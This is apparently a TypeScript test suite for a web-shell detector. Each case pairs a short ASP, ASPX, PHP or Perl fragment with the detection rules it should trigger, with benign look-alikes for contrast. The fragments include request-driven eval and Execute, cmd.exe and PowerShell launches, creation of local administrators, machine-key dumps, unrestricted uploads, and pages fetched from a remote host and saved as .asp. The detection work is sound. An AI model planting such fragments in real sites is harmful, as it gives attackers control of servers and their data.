import assert from 'node:assert/strict'
import { test } from 'node:test'
import { pageFlow } from '../../src/rules/web-shells/data-flow.ts'

// Put together from pieces, so that this file holds no page that a virus scanner would take away.
const R = ['Req', 'uest'].join('')
const cs = (code: string): string =>
  `<%@ Page Language="C#" %><script runat="server">void Page_Load(object o, EventArgs e) { ${code} }</script>`
const rulesOf = (page: string): string[] =>
  pageFlow
    .scan(Buffer.from(page))
    .map(({ rule }) => rule)
    .sort()

for (const [what, page, rules] of [
  ['a function made of text', `<%@ Page Language="JScript" %><%new Function(${R}.Form("z"))()%>`, ['flow-evaluates']],
  [
    'a process made through WMI, in Basic',
    `<% GetObject("winmgmts:root/cimv2:Win32_Process").Create ${R}("c"), null, null, id %>`,
    ['flow-starts-through-wmi'],
  ],
  [
    'a process made through WMI, in C#',
    cs(`var p = new ManagementClass("Win32_Process"); p.InvokeMethod("Create", new object[] { ${R}["c"] });`),
    ['flow-starts-through-wmi'],
  ],
  ['an object by its name', `<% Set a = CreateObject(${R}("o")) %>`, ['flow-makes-object']],
  [
    'a member by its name',
    cs(`var t = Type.GetType(${R}["t"]); t.InvokeMember(${R}["m"], f, null, null, new object[] { 1 });`),
    ['flow-makes-object'],
  ],
  [
    'code handed over in a list of arguments',
    cs(
      `byte[] b = ${R}.BinaryRead(9); foreach (var m in typeof(Assembly).GetMethods()) { m.Invoke(null, new object[] { b }); }`,
    ),
    ['flow-loads-code'],
  ],
  ['a copy to where the request says', cs(`File.Copy("a.txt", ${R}["to"], true);`), ['flow-puts-where-asked']],
  [
    'a download to where the request says',
    cs(`var to = ${R}["to"]; new WebClient().DownloadFile("http://192.0.2.1/a", to);`),
    ['flow-puts-where-asked'],
  ],
  ['a copy between places of the page', cs(`File.Copy(Server.MapPath("a"), Server.MapPath("b")); x = ${R}["a"];`), []],
  ['a class that the page names', cs(`var t = Type.GetType("A.B"); Activator.CreateInstance(t, ${R}["a"]);`), []],
  ['an object that the page names', `<% Set a = CreateObject("ADODB.Recordset") : b = ${R}("c") %>`, []],
  ['a question to WMI', cs(`var s = new ManagementObjectSearcher("select * from Win32_Process"); w(${R}["a"]);`), []],
  ['a list of what the request brings', cs(`var list = new string[] { ${R}["a"] }; Response.Write(list[0]);`), []],
  // code in a file of its own
  [
    'a program, in the code of a page',
    `using System.Web;\npublic partial class P : Page { void Page_Load(object o, EventArgs e) { Process.Start("cmd.exe", "/c " + ${R}["c"]); } }`,
    ['flow-starts-program'],
  ],
  [
    'a program, in the code of a page in Basic',
    `Imports System.Diagnostics\nPartial Class P\n Sub Page_Load(o As Object, e As EventArgs)\n  Process.Start("cmd.exe", "/c " & ${R}("c"))\n End Sub\nEnd Class`,
    ['flow-starts-program'],
  ],
  [
    'an interpreter, in a class without a request',
    'using System.Diagnostics;\npublic static class U { public static void Run(string c) { Process.Start("cmd.exe", "/c " + c); } }',
    ['flow-starts-interpreter'],
  ],
  [
    'a list of orders, in the code of a page',
    `using System.Web;\npublic partial class P : Page { void Page_Load(object o, EventArgs e) { Title = ${R}["t"]; Process.Start("ffmpeg.exe", "-i a.mov"); } }`,
    [],
  ],
  // what a page does by itself
  ['an interpreter, by itself', cs(`Process.Start("cmd.exe", "/c whoami");`), ['flow-starts-interpreter']],
  [
    'an interpreter with blanks before its name, by itself, in Basic',
    `<%@ Page Language="VB" %><% Dim p As New Process() : p.StartInfo.FileName = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" : p.Start() %>`,
    ['flow-starts-interpreter'],
  ],
  ['another program, by itself', cs(`Process.Start("ffmpeg.exe", "-i a.mov");`), []],
  [
    'machine code',
    cs(
      `[DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a, uint b, uint c, uint d); byte[] b = {1}; CreateThread(z, z, m, z, 0, ref t);`,
    ),
    ['flow-runs-machine-code'],
  ],
  ['a thread of .NET', cs(`var t = new Thread(Run); t.Start();`), []],
  [
    'a page that is written, by itself',
    cs(`File.WriteAllText(Server.MapPath("a.aspx"), "x");`),
    ['flow-writes-page-alone'],
  ],
  ['a text that is written, by itself', cs(`File.WriteAllText(Server.MapPath("a.txt"), "x");`), []],
  // connections
  ['a connection to a host of the request', cs(`var c = new TcpClient(${R}["h"], 80);`), ['flow-connects']],
  [
    'a port that the request opens',
    cs(`var l = new TcpListener(a, int.Parse(${R}["p"])); l.Start();`),
    ['flow-connects'],
  ],
  [
    'commands that come over a connection of the page',
    `<%@ Page Language="C#" %><script runat="server">string Take(Socket s) { byte[] b = new byte[9]; s.Receive(b, 0, 9, SocketFlags.None); return Encoding.ASCII.GetString(b); }\nvoid Page_Load(object o, EventArgs e) { var s = new Socket(a, b, c); s.Connect("192.0.2.1", 80); var what = Take(s); var p = new Process(); p.StartInfo.FileName = "x.exe"; p.StartInfo.Arguments = what; p.Start(); }</script>`,
    ['flow-starts-what-is-sent'],
  ],
  [
    'a program of the page, and an answer of another server',
    cs(
      `var c = new TcpClient("mail", 25); c.GetStream().Read(b, 0, 9); w(b); Process.Start("ffmpeg.exe", "-i a.mov");`,
    ),
    [],
  ],
  ['a connection to a host of the page', cs(`var c = new TcpClient("mail", 25); w(${R}["h"]);`), []],
  // files
  [
    'a file through FileInfo',
    `<%@ Page Language="C#" %><asp:TextBox id="T1" runat="server" /><script runat="server">void b() { var f = new FileInfo(T1.Text); var w = f.CreateText(); }</script>`,
    ['flow-writes-where-asked'],
  ],
  [
    'a page with what the request brings',
    `<% Set f = fso.CreateTextFile(Server.MapPath("x.asp"))\r\nf.Write ${R}("c") %> only jpg,gif,png`,
    ['flow-writes-page'],
  ],
  [
    'the same in a part of an application',
    `<!--#include file="conn.asp"--><% Set f = fso.CreateTextFile(Server.MapPath("x.asp"))\r\nf.Write ${R}("c") %>`,
    ['flow-lead'],
  ],
  [
    'the same in a library',
    `<% Function save(name)\r\nSet f = fso.CreateTextFile(Server.MapPath("x.asp"))\r\nf.Write ${R}("c")\r\nEnd Function %>`,
    ['flow-lead'],
  ],
  [
    'a page out of another server, in a block of With',
    `<% http.Open "GET", "http://192.0.2.1/a", False\r\nx = http.responseBody\r\nWith Server.CreateObject("ADODB.Stream")\r\n.Write x\r\n.SaveToFile Server.MapPath("x.asp"), 2\r\nEnd With %>`,
    ['flow-drops-page'],
  ],
  [
    'a name that two procedures have',
    `<% Sub a(name)\r\nResponse.Write name\r\nEnd Sub\r\nSub b(name)\r\nfso.CreateTextFile name\r\nEnd Sub\r\na ${R}("n")\r\nb "x" %>`,
    [],
  ],
  [
    'a folder of the request or of the site',
    `<% Path = Trim(${R}("p"))\r\nIf Path = "" Then Path = Server.MapPath("/")\r\nSet f = fso.GetFolder(Path) %>`,
    ['flow-lists-folder'],
  ],
  [
    'a folder of the request or else of the site, chosen in one line',
    cs(
      `dir = ${R}.QueryString["d"] != null ? ${R}.QueryString["d"] : Server.MapPath("."); var l = Directory.GetFiles(dir);`,
    ),
    ['flow-lists-folder'],
  ],
  [
    'the same where the list is made',
    cs(`var l = new DirectoryInfo(${R}["d"] ?? Server.MapPath("~/"));`),
    ['flow-lists-folder'],
  ],
  [
    'the same in Basic',
    `<%@ Page Language="VB" %><% Dim d = IIf(${R}("d") Is Nothing, Server.MapPath("."), ${R}("d"))\nDim l = Directory.GetFiles(d) %>`,
    ['flow-lists-folder'],
  ],
  [
    'one of two folders of the site',
    cs(
      `dir = ${R}["d"] == "a:b" ? Server.MapPath("x?y") : Server.MapPath("~/files/" + ${R}["d"]); var l = Directory.GetFiles(dir);`,
    ),
    [],
  ],
  [
    'a folder of the site, by the name of the request or another',
    cs(`var l = Directory.GetFiles(Server.MapPath("~/files/" + (${R}["d"] ?? "all")));`),
    [],
  ],
  // accounts
  [
    'an administrator of the machine',
    cs(
      `var u = new UserPrincipal(c, "a", "b", true); u.Save(); var g = GroupPrincipal.FindByIdentity(c, "Administrators"); g.Members.Add(u);`,
    ),
    ['flow-adds-administrator'],
  ],
  [
    'an administrator by ADSI',
    cs(
      `var m = new DirectoryEntry("WinNT://" + Environment.MachineName); var u = m.Children.Add(${R}["u"], "user"); u.Invoke("SetPassword", new object[] { ${R}["p"] }); var g = m.Children.Find("Administrators", "group"); g.Invoke("Add", new object[] { u.Path });`,
    ),
    ['flow-adds-administrator'],
  ],
  [
    'an administrator by ADSI, in classic ASP',
    `<% Set m = GetObject("WinNT://.")\nSet u = m.Create("user", ${R}("u"))\nu.SetPassword ${R}("p")\nu.SetInfo\nSet g = GetObject("WinNT://./Administrators,group")\ng.Add u.ADsPath %>`,
    ['flow-adds-administrator'],
  ],
  ['an account by net', cs(`Process.Start("net.exe", "user a b /add");`), ['flow-starts-interpreter']],
  [
    'an account by net, by properties',
    cs(
      `var p = new Process(); p.StartInfo.FileName = "net"; p.StartInfo.Arguments = "localgroup Users a /add"; p.Start();`,
    ),
    ['flow-starts-interpreter'],
  ],
  ['an account that the application itself keeps', cs(`Membership.CreateUser(${R}["u"], ${R}["p"]);`), []],
  [
    'a password that a user changes',
    cs(
      `var u = UserPrincipal.FindByIdentity(c, ${R}["u"]); u.SetPassword(${R}["p"]); if (User.IsInRole("Administrators")) w();`,
    ),
    [],
  ],
  [
    'a member of a group of users',
    cs(`var u = new UserPrincipal(c, "a", "b", true); g.Members.Add(u); f("Students");`),
    [],
  ],
  [
    'an administrator, in a part of an application',
    `<%@ Page Language="C#" MasterPageFile="a.master" %><script runat="server">void b() { var u = new UserPrincipal(c, "a", "b", true); g("Administrators").Members.Add(u); }</script>`,
    ['flow-lead'],
  ],
  [
    'a folder that a box names',
    `<%@ Page Language="C#" %><asp:TextBox id="d" runat="server" /><script runat="server">void b() { var l = Directory.GetFiles(d.Text); }</script>`,
    ['flow-lists-folder'],
  ],
  // keys
  [
    'the machine keys',
    cs(
      `var s = (MachineKeySection)ConfigurationManager.GetSection("system.web/machineKey"); Response.Write(s.ValidationKey + "|" + s.DecryptionKey);`,
    ),
    ['flow-shows-keys'],
  ],
  ['a look whether there are keys', cs(`var s = GetSection("system.web/machineKey"); Response.Write(s != null);`), []],
  [
    'a procedure on one line',
    `<%Function run(a) ${['ev', 'al'].join('')} a End Function%><%D = ${R}("x")%><%run D%>`,
    ['flow-evaluates'],
  ],
  // languages
  ['a value of a row', `<%@ Control Language="C#" %><%# Eval("a") + ${R}.QueryString["b"] %>`, []],
  ['a script control', `<% Set s = CreateObject("ScriptControl")\r\nx = s.Eval(${R}("a")) %>`, ['flow-evaluates']],
  ['PHP', `<?php $a = $_POST["x"]; system($a); ?>`, ['flow-runs-script']],
  ['PHP that looks', `<?php $a = $_POST["x"]; echo htmlspecialchars($a); ?>`, []],
  ['Perl', `<%@ Language="PerlScript" %><% my $c = $${R}->Form("c")->Item; system($c); %>`, ['flow-runs-script']],
  [
    'tables that are opened beside a client of HTTP',
    `<% Set h = CreateObject("MSXML2.XMLHTTP")\r\nrs.Open "select a from b where c=" & ${R}("c"), conn, 1, 1 %>`,
    [],
  ],
  // uploads, without a directive, in either language
  [
    'an upload to where the request says, in C#',
    `<%if (${R}.Files.Count!=0) { ${R}.Files[0].SaveAs(Server.MapPath(${R}["f"])); }%>`,
    ['flow-saves-upload'],
  ],
  [
    'an upload to where the request says, in Basic, with curly quotes',
    `<% If ${R}.Files.Count <> 0 Then ${R}.Files(0).SaveAs(Server.MapPath(${R}(\xe2\x80\x9cf\xe2\x80\x9d))) %>`,
    ['flow-saves-upload'],
  ],
  [
    'an upload under its own name into the folder of the page',
    cs(`var file = ${R}.Files[0]; var path = Server.MapPath("~/" + file.FileName); file.SaveAs(path);`),
    ['flow-saves-upload'],
  ],
  [
    'an upload through a control',
    `<%@ Page Language="VB" %><asp:FileUpload id="up" runat="server" /><script runat="server">Sub b_Click(o As Object, e As EventArgs)\nup.SaveAs(Server.MapPath(up.FileName))\nEnd Sub</script>`,
    ['flow-saves-upload'],
  ],
  [
    'an upload into a folder of the application',
    cs(`var f = ${R}.Files[0]; f.SaveAs(Server.MapPath("~/uploads/" + f.FileName));`),
    ['flow-lead'],
  ],
  [
    'an upload whose kind is looked at',
    cs(`var f = ${R}.Files[0]; if (Path.GetExtension(f.FileName) == ".png") f.SaveAs(Server.MapPath(f.FileName));`),
    ['flow-lead'],
  ],
  // databases
  [
    'a database and a question of the request',
    `<% var c = new SqlConnection(${R}.QueryString["c"]); var q = new SqlCommand(${R}.QueryString["q"], c); %>`,
    ['flow-opens-database'],
  ],
  [
    'a database by a property, and a question of the request',
    cs(
      `var c = new OleDbConnection(); c.ConnectionString = ${R}["c"]; c.Open(); var q = c.CreateCommand(); q.CommandText = ${R}["q"];`,
    ),
    ['flow-opens-database'],
  ],
  [
    'a database and a question of the request, in classic ASP',
    `<% Set c = Server.CreateObject("ADODB.Connection")\nc.Open ${R}("c")\nSet r = c.Execute(${R}("q")) %>`,
    ['flow-opens-database'],
  ],
  [
    'a question of the request to the database of the application',
    `<% Set c = Server.CreateObject("ADODB.Connection")\nc.Open Application("dsn")\nSet s = Server.CreateObject("ADODB.Recordset")\ns.Open "select a from b where c=" & ${R}("q"), c\nc.Execute "delete from b where c=" & ${R}("q") %>`,
    [],
  ],
  // JScript.NET
  [
    'a web method of JScript',
    `<%@ WebService Language="JScript" class="A"%>import System;public class A extends WebService{WebMethodAttribute function Run(what : String) : Void{ var c = HttpContext.Current; eval(what);}}`,
    ['flow-evaluates'],
  ],
  // eval under other names
  [
    'eval as a property of an object',
    `<script runat=server language=javascript> var p = ${R}.form('z'); var w = {'E' : eval}; w.E(p+''); </script>`,
    ['flow-evaluates'],
  ],
  [
    'eval as what a function returns',
    `<%@language="javascript"%><%g()(g(1));function g(a){if(a){return ${R}('_')+''}else{return eval\n}}%>`,
    ['flow-evaluates'],
  ],
  [
    'execute behind a property of a class',
    `<% Class A\nPublic Property Let Code(s)\nExecuteGlobal s\nEnd Property\nEnd Class\nSet a1 = New A\na1.Code = ${R}("z") %>`,
    ['flow-evaluates'],
  ],
  [
    'execute behind a method that is called without brackets',
    `<% Sub Run(s)\nExecute s\nEnd Sub\nRun ${R}("z") %>`,
    ['flow-evaluates'],
  ],
  [
    'execute behind a reference',
    `<% Sub Run(s)\nExecute s\nEnd Sub\nSet f = GetRef("Run") : f(${R}("z")) %>`,
    ['flow-evaluates'],
  ],
  ['a page through another name of the server', `<% Set x = Server\nx.Execute ${R}("z") %>`, ['flow-runs-page']],
  ['code through another name of the request', `<% Set q = ${R}\nExecute q("z") %>`, ['flow-evaluates']],
  [
    'code that Replace makes',
    `<% a="e0x0e0c0ut0e(0${R.slice(0, 3)}0${R.slice(3)}(""x0x""))"\na=replace(a,"0","")\neval a %>`,
    ['flow-evaluates'],
  ],
  [
    'code out of the session by a key that is computed',
    `<% k(1) = "p"\nSession(k(1)) = ${R}("z")\nSet d = Server.CreateObject("Scripting.Dictionary")\nd.Add k(1), Session(k(1))\nExecute(d(k(1))) %>`,
    ['flow-evaluates'],
  ],
  [
    'a look-up of a regular expression, and a command of a database',
    `<% Set m = re.Execute(${R}("z"))\nconn.Execute "update a set b=" & ${R}("z") %>`,
    [],
  ],
  [
    'the value of a match that is evaluated',
    `<% For Each m In re.Execute(text)\nx = eval(m.value)\nNext\ny = ${R}("z") %>`,
    [],
  ],
  // reflection
  [
    'a method by a name of single letters',
    cs(
      `var d = ${R}.BinaryRead(9); var t = Type.GetType("System.X"); var m = t.GetMethod(new string(new char[]{'L','o','a','d'})); m.Invoke(null, new object[] { d });`,
    ),
    ['flow-loads-code'],
  ],
  [
    'a delegate, and what a method returns',
    `<%@ Page Language="C#" %><script runat="server">byte[] Take() { return Convert.FromBase64String(${R}["z"]); }\nvoid Page_Load(object o, EventArgs e) { var run = (D)Delegate.CreateDelegate(typeof(D), m); run(Take()); }</script>`,
    ['flow-loads-code'],
  ],
  // pages that write pages
  [
    'a page that is fetched and saved',
    `<% Set x = CreateObject("Microsoft.XMLHTTP")\nx.Open "GET","http://192.0.2.1/a.txt",False\nx.Send()\nSet s = CreateObject("ADODB.Stream")\ns.Write(x.responseBody)\ns.SaveToFile Server.MapPath("b.asp"),2 %>`,
    ['flow-drops-page'],
  ],
  [
    'a page that replaces itself',
    `<% Set f = o.CreateTextFile(Server.MapPath(${R}.ServerVariables("SCRIPT_NAME")), True)\nf.Write ${R}("d") %>`,
    ['flow-rewrites-itself'],
  ],
  [
    'a raw socket',
    cs(
      `var s = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.IP); s.IOControl(IOControlCode.ReceiveAll, a, b);`,
    ),
    ['flow-captures-network'],
  ],
  // code and objects that come in other forms
  [
    'a stylesheet with script',
    cs(
      `var t = new XslCompiledTransform(); t.Load(XmlReader.Create(new StringReader(${R}["x"])), new System.Xml.Xsl.XsltSettings(true, true), null);`,
    ),
    ['flow-loads-code'],
  ],
  [
    'a stylesheet without script',
    cs(`var t = new XslCompiledTransform(); t.Load(Server.MapPath("a.xsl")); t.Transform(${R}["x"], null, w);`),
    [],
  ],
  [
    'JSON that names its classes',
    cs(`new JavaScriptSerializer(new SimpleTypeResolver()).DeserializeObject(${R}["x"]);`),
    ['flow-loads-code'],
  ],
  [
    'JSON of Newtonsoft that names its classes',
    cs(
      `var s = new JsonSerializerSettings { TypeNameHandling = TypeNameHandling.All }; JsonConvert.DeserializeObject(${R}["x"], s);`,
    ),
    ['flow-loads-code'],
  ],
  [
    'JSON without classes',
    cs(`var a = JsonConvert.DeserializeObject<Order>(${R}["x"]); var m = t.GetMethod("a");`),
    [],
  ],
  [
    'resources of the request',
    cs(`foreach (var x in new ResXResourceReader(${R}.InputStream)) { }`),
    ['flow-loads-code'],
  ],
  [
    'resources of the site',
    cs(`var r = new ResXResourceReader(Server.MapPath("~/App_GlobalResources/" + ${R}["lang"] + ".resx"));`),
    [],
  ],
  ['controls of the request', cs(`Page.Controls.Add(ParseControl(${R}["x"]));`), ['flow-loads-code']],
  ['controls of the page', cs(`Page.Controls.Add(ParseControl("<b>a</b>")); l.Text = ${R}["x"];`), []],
  ['a workflow of the request', cs(`ActivityXamlServices.Load(${R}.InputStream);`), ['flow-loads-code']],
  [
    'a task of the request',
    cs(
      `dynamic t = Activator.CreateInstance(Type.GetTypeFromProgID("Schedule.Service")); t.Connect(); var d = t.NewTask(0); d.Actions.Create(0).Path = ${R}["c"];`,
    ),
    ['flow-schedules'],
  ],
  [
    'tasks that are listed',
    cs(
      `dynamic t = Activator.CreateInstance(Type.GetTypeFromProgID("Schedule.Service")); t.Connect(); var d = t.GetFolder("/"); l.Text = ${R}["c"];`,
    ),
    [],
  ],
  [
    'pages out of memory',
    cs(`HostingEnvironment.RegisterVirtualPathProvider(new Own(Convert.FromBase64String("AAAA")));`),
    ['flow-serves-pages-of-its-own'],
  ],
  [
    'an object of a tag',
    `<%@ Page Language="C#" %><object id="p" runat="server" class="System.Diagnostics.Process" /><% p.StartInfo.FileName = ${R}["f"]; p.Start(); %>`,
    ['flow-starts-program'],
  ],
  [
    'a source of data that starts programs',
    `<%@ Page %><asp:ObjectDataSource runat="server" TypeName="System.Diagnostics.Process" SelectMethod="Start"><SelectParameters><asp:QueryStringParameter Name="fileName" QueryStringField="f" /></SelectParameters></asp:ObjectDataSource>`,
    ['flow-starts-program'],
  ],
  [
    'a source of data of the application',
    `<%@ Page %><asp:ObjectDataSource runat="server" TypeName="Contoso.Orders" SelectMethod="Start"><SelectParameters><asp:QueryStringParameter Name="a" QueryStringField="f" /></SelectParameters></asp:ObjectDataSource>`,
    [],
  ],
  // what applications do
  [
    'a question to one service',
    `<% Set x = CreateObject("MSXML2.ServerXMLHTTP")\nx.Open "GET", "http://captcha.example/check?a=" & ${R}("a"), False %>`,
    [],
  ],
  ['a list of a folder of the site', `<% d = Server.MapPath("images/" & ${R}("d"))\nSet f = fso.GetFolder(d) %>`, []],
  ['script for the browser', `<% Response.Write("for (i=0;i<eval(a.length);i++)" & ${R}("z")) %>`, []],
  [
    'the name of an uploaded file',
    `<% ' starts the upload process\nf.FileName = Right(n, 3)\nn = ${R}("n")\nf.FileName = n %>`,
    [],
  ],
] as const) {
  test(`${what}: ${rules.join(', ') || 'nothing'}`, () => assert.deepEqual(rulesOf(page), rules))
}

test('an open list does not hide what comes behind it', () => {
  const page = cs(`var a = new int[] { 1, 2; File.Copy("a", ${R}["to"]);`)
  assert.deepEqual(rulesOf(page), ['flow-puts-where-asked'])
})
